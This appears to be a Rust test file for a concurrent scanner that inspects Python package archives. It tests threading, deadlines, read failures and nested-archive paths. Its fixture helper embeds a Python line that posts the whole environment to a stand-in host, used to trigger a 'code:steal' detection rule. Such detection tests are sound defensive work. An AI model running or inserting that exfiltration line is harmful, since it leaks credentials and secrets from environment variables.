//! Many files, read by whoever has time: all of them, with the same report each time, and nobody waits for ever.

use std::io::{self, Cursor, Read, Seek, SeekFrom};
use std::sync::LazyLock;
use std::time::Duration;

use super::*;
use crate::archive::making::{noise, tgz_of, wheel};
use crate::program::Language;
use crate::{Report, scan};

static RULES: LazyLock<RuleSet> = LazyLock::new(RuleSet::default);

fn later() -> Deadline {
    Deadline::after(Duration::from_secs(600))
}

/// Files of `bytes` bytes each, which steal where `steals` says so.
fn files(count: usize, bytes: usize, steals: impl Fn(usize) -> bool) -> Vec<(String, String)> {
    let theft = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
    let calm = "import os, requests\nNAME = os.environ.get('LANG')\n";
    let file = |at: usize| {
        let code = if steals(at) { theft } else { calm };
        let rest = "# nothing but words\n".repeat((bytes - code.len()) / 20);
        (format!("a/m{at:04}.py"), format!("{code}{rest}"))
    };
    (0..count).map(file).collect()
}

fn scanned(files: &[(String, String)]) -> Report {
    let files: Vec<_> = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    let wheel = wheel(&files, |_| {});
    scan(&mut Cursor::new(wheel), "a-1.0-py3-none-any.whl", &RULES).unwrap()
}

#[test]
fn every_file_of_a_large_archive_is_read_whoever_reads_it() {
    for (count, bytes) in [(300, 1_500), (12, 60_000), (2, 600_000)] {
        let files = files(count, bytes, |at| at % 2 == 0);
        let report = scanned(&files);
        let thefts = count.div_ceil(2);
        let of_theft: Vec<_> = report.findings.iter().filter(|finding| finding.rule == "code:steal").collect();
        assert_eq!(of_theft.len(), thefts.min(20), "{count} files of {bytes} bytes");
        assert!(of_theft.iter().all(|finding| finding.place.line == Some(2)), "{of_theft:#?}");
        let alone: Vec<_> = files.iter().map(|file| scanned(std::slice::from_ref(file))).collect();
        assert_eq!(report.counts.trees, alone.iter().map(|one| one.counts.trees).sum::<usize>());
        assert_eq!(report, scanned(&files), "the same each time");
    }
}

#[test]
fn files_of_an_archive_in_the_archive_are_told_with_the_way_to_them() {
    let inner = files(400, 1_500, |at| at == 399);
    let texts: Vec<_> = inner.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    let tgz = tgz_of(&texts);
    let outer = crate::archive::making::zip(&[crate::archive::making::Zipped::new("inner.tgz", &tgz)]);
    let report = scan(&mut Cursor::new(outer), "a.zip", &RULES).unwrap();
    let theft = report.findings.iter().find(|finding| finding.rule == "code:steal").expect("a finding");
    assert_eq!(theft.place.path, "inner.tgz!/a/m0399.py");
}

/// Fails after so many bytes.
struct Failing(Cursor<Vec<u8>>, u64);

impl Read for Failing {
    fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
        let count = self.0.read(buffer)?;
        self.1 = self.1.checked_sub(count as u64).ok_or_else(|| io::Error::other("the disk is gone"))?;
        Ok(count)
    }
}

impl Seek for Failing {
    fn seek(&mut self, to: SeekFrom) -> io::Result<u64> {
        self.0.seek(to)
    }
}

#[test]
fn a_scan_that_ends_early_keeps_nobody_waiting() {
    let files: Vec<_> = (0..900).map(|at| (format!("a/m{at}.py"), format!("# {}\n", noise(at, 1_500)))).collect();
    let texts: Vec<_> = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    for (name, archive) in [("a-1.0.tar.gz", tgz_of(&texts)), ("a-1.0-py3-none-any.whl", wheel(&texts, |_| {}))] {
        assert!(archive.len() > 4 * WORTH, "others read as well: {} bytes", archive.len());
        // Its hash is read, then it fails in the middle of being unpacked.
        let room = archive.len() as u64 * 3 / 2;
        let failed = scan(&mut Failing(Cursor::new(archive), room), name, &RULES);
        assert_eq!(failed.unwrap_err().to_string(), format!("{name} could not be read"));
    }
}

/// The system gives so many threads and no more.
fn read_with(threads: usize) -> usize {
    thread::scope(|scope| {
        let mut crew = Crew::new(scope, &RULES, later());
        let mut given = 0;
        let begin = |help: Help<'static>| {
            if given == threads {
                return Err(io::ErrorKind::WouldBlock.into());
            }
            given += 1;
            thread::Builder::new().spawn_scoped(scope, || help.run()).map(drop)
        };
        let by = crew.by;
        let begun = crew.helpers.insert(Helpers::begin(by, HELPERS, begin)).threads;
        assert_eq!(begun, threads);
        let mut trees = 0;
        for (path, text) in files(100, 3_000, |_| true) {
            let seen = crew.read(Task::Text(Text { path, language: Language::Python, bytes: text.into_bytes() }));
            trees += seen.iter().map(|seen| seen.trees).sum::<usize>();
        }
        trees + crew.settle().iter().map(|seen| seen.trees).sum::<usize>()
    })
}

#[test]
fn where_the_system_gives_no_thread_all_is_read_all_the_same() {
    for threads in [0, 1, HELPERS] {
        assert_eq!(read_with(threads), 100, "with {threads}");
    }
}

/// Those that began before one could not are let go, also by a panic.
#[test]
fn a_thread_that_cannot_begin_keeps_nobody_waiting() {
    let caught = catch_unwind(|| {
        thread::scope(|scope| {
            let mut given = 0;
            Helpers::begin(By { rules: &RULES, deadline: later() }, HELPERS, |help| {
                given += 1;
                assert!(given == 1, "no second thread");
                thread::Builder::new().spawn_scoped(scope, || help.run()).map(drop)
            });
        });
    });
    assert!(caught.is_err());
}

#[test]
fn nothing_is_read_after_the_deadline() {
    thread::scope(|scope| {
        let mut crew = Crew::new(scope, &RULES, Deadline::after(Duration::ZERO));
        for (path, text) in files(100, 3_000, |_| true) {
            let seen = crew.read(Task::Text(Text { path, language: Language::Python, bytes: text.into_bytes() }));
            assert!(seen.iter().all(|seen| seen.trees == 0 && seen.kept.is_none()));
        }
        assert!(crew.settle().iter().all(|seen| seen.trees == 0));
    });
}

/// A lock held while something is read would leave all of it to one thread.
#[test]
fn while_one_reads_others_can_take_what_waits() {
    thread::scope(|scope| {
        let mut crew = Crew::new(scope, &RULES, later());
        let by = crew.by;
        // Nobody helps: this one takes both handfuls, one after the other.
        let helpers = crew.helpers.insert(Helpers::begin(by, 1, |_| Ok(())));
        for (path, text) in files(2, 400_000, |_| true) {
            let task = Task::Text(Text { path, language: Language::Python, bytes: text.into_bytes() });
            assert!(helpers.hand_over(1, vec![task]).is_ok());
        }
        let shared = helpers.shared.clone();
        let others = scope.spawn(move || {
            let mut seen = vec![2];
            while seen.last() != Some(&0) {
                thread::sleep(Duration::from_millis(1));
                let waits = shared.queue().handfuls.len();
                if seen.last() != Some(&waits) {
                    seen.push(waits);
                }
            }
            seen
        });
        assert_eq!(crew.settle().len(), 2);
        assert_eq!(others.join().expect("a look at what waits"), [2, 1, 0], "one waits while the other is read");
    });
}

#[test]
fn a_panic_in_another_thread_is_the_scans() {
    let caught = catch_unwind(AssertUnwindSafe(|| {
        thread::scope(|scope| {
            let mut crew = Crew::new(scope, &RULES, later());
            let by = crew.by;
            let helpers = crew.helpers.insert(Helpers::begin(by, 1, |_| Err(io::ErrorKind::WouldBlock.into())));
            let (tell, done) = mpsc::channel::<Done>();
            (helpers.done, helpers.open) = (done, 1);
            let panic = catch_unwind(|| -> Vec<Seen> { std::panic::panic_any("of a reader") });
            tell.send(panic).expect("somebody waits");
            crew.settle()
        })
    }));
    assert!(caught.is_err_and(|panic| panic.downcast_ref() == Some(&"of a reader")));
}

#[test]
fn what_is_small_wakes_nobody() {
    thread::scope(|scope| {
        let mut crew = Crew::new(scope, &RULES, later());
        for (path, text) in files(4, 20_000, |_| false) {
            let seen = crew.read(Task::Text(Text { path, language: Language::Python, bytes: text.into_bytes() }));
            assert_eq!(seen.len(), 1);
        }
        assert!(crew.helpers.is_none() && crew.settle().is_empty());
    });
}
